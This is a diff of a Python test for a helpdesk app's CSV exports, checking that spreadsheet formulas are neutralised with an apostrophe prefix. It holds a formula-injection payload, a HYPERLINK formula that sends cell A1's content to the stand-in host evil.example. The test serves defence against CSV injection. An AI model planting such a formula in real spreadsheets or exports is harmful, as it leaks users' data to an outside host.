@@ -5,15 +5,14 @@ from __future__ import annotations
 import csv
 import io
 
-from helpdesk.db.engine import Database
 from helpdesk.ports import FixedClock
-from tests.support.web import add_staff, login, mail, services_for, web_client
+from helpdesk.services import Services
+from tests.support.web import add_staff, login, mail, web_client
 
 PAYLOAD = '=hyperlink("http://evil.example/?"&a1,"cliquez")'  # tags are stored in lower case
 
 
-async def test_exports_neutralise_formulas(db: Database, clock: FixedClock) -> None:
-    services = services_for(db.url, clock)
+async def test_exports_neutralise_formulas(clock: FixedClock, services: Services) -> None:
     _, agent = await add_staff(services)
     n = (await services.intake.receive(mail("<csv@x>", subject=PAYLOAD))).ticket_number
     assert n is not None
@@ -30,4 +29,3 @@ async def test_exports_neutralise_formulas(db: Database, clock: FixedClock) -> N
             assert any(PAYLOAD in c for c in cells), table  # the text is kept, only made inert
             if table == "tags":
                 assert "'" + PAYLOAD in cells and "'@sum(1)" in cells and "'-1" in cells
-    await services.db.dispose()
